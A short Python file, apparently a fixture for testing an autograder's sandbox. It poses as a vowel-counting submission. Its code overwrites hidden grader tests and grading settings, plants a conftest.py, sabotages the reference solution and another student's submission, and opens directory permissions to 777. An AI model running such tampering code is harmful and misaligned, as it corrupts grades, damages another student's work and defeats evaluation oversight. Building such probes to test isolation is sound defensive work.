"""Rewrites the hidden checks, the settings and another student's submission, to affect later grades."""

import os

targets = {
    "@COURSE_ROOT@/assignments/counting/graders/test_vowels.py": "def test_all(student):\n    '''All.'''\n",
    "@COURSE_ROOT@/grading.yml": "",
    "@COURSE_ROOT@/conftest.py": "print('ESCAPED: planted conftest')",
    "@COURSE_ROOT@/solutions/counting/vowels.py": "def count_vowels(text): return -1",
    "@VICTIM@/vowels.py": "def count_vowels(text): return -1",
}
for path, text in targets.items():
    try:
        with open(path, "w") as file:
            file.write(text)
        print("ESCAPED: wrote", path)
    except OSError as error:
        print("held:", error)
    try:
        os.chmod(os.path.dirname(path), 0o777)
        print("ESCAPED: chmod", path)
    except OSError as error:
        print("held:", error)


def count_vowels(text):
    return -1
